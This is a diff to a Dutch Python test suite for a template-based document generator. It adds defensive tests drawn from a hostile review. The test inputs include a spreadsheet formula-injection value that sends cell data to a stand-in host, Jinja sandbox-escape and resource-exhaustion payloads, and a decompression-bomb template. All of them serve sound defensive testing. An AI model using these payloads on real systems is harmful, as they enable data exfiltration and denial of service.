@@ -15,6 +15,7 @@ from click.testing import CliRunner
 from generator.cli import hoofd
 from generator.paden import standaard_sjablonen
 
+from .conftest import na_de_startbijeenkomst
 from .test_notitie import _sjabloon
 
 
@@ -101,6 +102,7 @@ def _als_tekst(wb):
 
 
 def test_csv_voert_geen_formules_uit(maak_werkboek, gegevens, tmp_path):
+    na_de_startbijeenkomst(gegevens)  # invitations for the dialogue go to everyone
     kwaad = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'
     gegevens["Stakeholders"][-1]["Organisatie"] = kwaad  # no other sheet refers to it
     gegevens["Stakeholders"][6]["Contactpersoon"] = "+31 kwaad"
@@ -145,8 +147,8 @@ SJABLOONFOUTEN = [
     ("uitnodiging.txt", ("Met vriendelijke groet,", "{% include 'geheim.txt' %}"),
      "Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en {% extends %} kunnen in een "
      "sjabloon niet; zet de tekst er zelf in."),
-    ("voortgang.toml", ('naam = "na de startbijeenkomst"', 'naam = ["na de startbijeenkomst"]'),
-     "Sjabloon 'voortgang.toml': 'moment.na_startbijeenkomst.naam' moet een tekst zijn."),
+    ("voortgang.toml", ('naam = "na de dialoog doelen en maatregelen"', 'naam = ["na de dialoog"]'),
+     "Sjabloon 'voortgang.toml': 'moment.na_dialoog.naam' moet een tekst zijn."),
 ]
 
 
@@ -162,7 +164,7 @@ def test_sjabloonfout_met_eigen_zin(voorbeeld, tmp_path, naam, vervang, melding)
 def test_sjabloon_in_latin_1(voorbeeld, tmp_path):
     eigen = tmp_path / "eigen"
     eigen.mkdir()
-    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8")
+    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8") + "Tot ziens op de bijeenkomst, één keer per jaar."
     (eigen / "uitnodiging.txt").write_bytes(tekst.encode("latin-1", errors="replace"))
     resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
     assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
@@ -198,3 +200,102 @@ def test_sjabloon_dat_te_veel_maakt(voorbeeld, tmp_path, alinea):
     resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
     assert resultaat.exit_code == 1
     assert resultaat.output.strip().splitlines()[-1].startswith("Sjabloon 'bestuurlijke-notitie.docx': ")
+
+
+# -- found by a hostile review of the fixes above ---------------------------------------------
+def test_teksten_hebben_ook_een_tijdslimiet(voorbeeld, tmp_path, monkeypatch):
+    from generator import sjabloon
+
+    monkeypatch.setattr(sjabloon, "MAX_SECONDEN", 1)
+    eigen = _toml_kopie(tmp_path / "eigen", "presentatie.toml",
+                        ('titel = "Programma"', 'titel = "{% for i in range(100000) %}{% for j in range(100000) %}'
+                                                '{% endfor %}{% endfor %}Programma"'))
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'presentatie.toml': het invullen duurt langer dan 1 seconden; staat er een lus in die niet "
+           "ophoudt, of een heel grote {% for %}?")
+
+
+@pytest.mark.parametrize("alinea", [
+    "{{ ((((9**64)**64)**64)**64)**64 > 1 }}",
+    "{{ ('x'|center(3000000000))|length }}",
+    "{{ ('x'|indent(3000000000))|length }}",
+    "{{ '{:>1000000000}'.format(1) }}",
+    "{{ '%01000000000d'|format(1) }}",
+    "{% set ns = namespace(t='x' * 15000000) %}{{ (ns.t + ns.t)|length }}",
+])
+def test_sjabloon_kan_geen_reusachtige_tekst_maken(voorbeeld, tmp_path, alinea):
+    eigen = _sjabloon(tmp_path / "eigen", alinea)
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert resultaat.exit_code == 1
+    laatste = resultaat.output.strip().splitlines()[-1]
+    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': "), laatste
+    assert "onverwachts" not in resultaat.output
+
+
+def test_word_document_dat_uitgepakt_te_groot_wordt(voorbeeld, tmp_path, monkeypatch):
+    """A few bytes of docx that unpack to a huge document: refused by its unpacked size."""
+    from generator import sjabloon
+
+    monkeypatch.setattr(sjabloon, "MAX_UITGEPAKT", 2_000_000)
+    eigen = _sjabloon(tmp_path / "eigen", "{%p for i in range(30) %}", "{{ 'x' * 100000 }}", "{%p endfor %}")
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'bestuurlijke-notitie.docx': het ingevulde document wordt groter dan 200 MB; staat er een lus "
+           "in die te veel herhaalt?")
+
+
+def test_fout_in_de_kopregel_wordt_daar_genoemd(voorbeeld, tmp_path):
+    eigen = _sjabloon(tmp_path / "eigen", "Onderwerp")
+    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
+    doc.sections[0].header.paragraphs[0].text = "{{ onbekend_in_kop }}"
+    doc.save(eigen / "bestuurlijke-notitie.docx")
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'bestuurlijke-notitie.docx': onbekende naam 'onbekend_in_kop' in de kop- of voettekst.")
+    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
+    doc.sections[0].header.paragraphs[0].text = ""
+    doc.core_properties.title = "{{ 1/0 }}"
+    doc.save(eigen / "bestuurlijke-notitie.docx")
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert resultaat.output.strip().splitlines()[-1] == (
+        "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de documenteigenschappen (titel, "
+        "onderwerp).")
+
+
+@pytest.mark.parametrize(("vervang", "melding"), [
+    (('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "{{ soort.__class__.__mro__ }}"'),
+     "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag probeert iets wat in een sjabloon niet mag."),
+    (('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "Bijeenkomst {{"'),
+     "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag is onjuist geschreven (sluit elke {{ af met }} "
+     "en elke {% met %})."),
+    (('blad = "Overzicht"', 'blad = "Over/zicht"'),
+     "Sjabloon 'voortgang.toml': 'overzicht.blad' is geen geldige naam voor een Excel-blad (hoogstens 31 tekens, "
+     "zonder : \\ / ? * [ ])."),
+])
+def test_koppen_van_het_overzicht_in_de_zandbak(tmp_path, maak_werkboek, vervang, melding):
+    import shutil
+
+    map_ = tmp_path / "regio"
+    map_.mkdir()
+    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a.xlsx")
+    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", vervang)
+    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
+    assert not (tmp_path / "uit").exists()  # refused before any work
+
+
+def test_stuurtekens_in_het_overzicht(tmp_path, maak_werkboek):
+    import shutil
+
+    import openpyxl
+
+    map_ = tmp_path / "regio"
+    map_.mkdir()
+    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a\x01b.xlsx")
+    shutil.copy(tmp_path / "hittekaart-heuvelmonde.png", map_)
+    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", ('werkboek = "Werkboek"', 'werkboek = "Werk\\u0007boek"'))
+    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert resultaat.exit_code == 0, resultaat.output
+    ws = openpyxl.load_workbook(tmp_path / "uit" / "overzicht-regio.xlsx").active
+    assert (ws["A1"].value, ws["A2"].value) == ("Werkboek", "ab.xlsx")
